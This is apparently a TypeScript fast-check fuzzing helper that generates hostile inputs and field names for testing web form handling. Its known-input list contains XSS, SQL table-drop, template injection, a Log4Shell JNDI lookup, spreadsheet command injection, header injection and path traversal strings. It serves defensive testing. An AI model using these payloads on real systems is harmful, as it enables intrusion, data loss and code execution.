import fc from "fast-check"

/** What has broken forms before; each can be written in a URL-encoded body. */
const KNOWN = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u001B[31m",
  "Nom\r\nBcc: tous@exemple.example",
  "Nom\nSubject: autre",
  "Nom\u2028suite",
  "\u202Egnp.exe",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE form_submissions; --",
  "{{constructor.constructor('return process')()}}",
  "${jndi:ldap://exemple.example/a}",
  "=cmd|'/C calc'!A0",
  "__proto__",
  "[object Object]",
  "NaN",
  "-1",
  "1e999",
  "2031-02-30",
  "0000-00-00",
  "é".repeat(10_001),
  "👩🏽‍🎓".repeat(2_000),
  "a".repeat(300_000),
  "a@b.example,c@d.example",
  "(a+)+$".repeat(200),
  "a".repeat(60_000) + "!",
  "%00%0d%0a",
  "../../etc/passwd",
]

/** A text that a field may not expect. */
export const badText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...KNOWN) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 300 }) },
)

/** Names of entries that are no field, or try to be more than one. */
export const badName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "constructor",
    "prototype[x]",
    "name[0]",
    "name[first]",
    "name.first",
    "email[]",
    "__intent__",
    "__state__",
    "form_files",
    "form_reference",
    "toString",
    "",
  ),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 }),
)
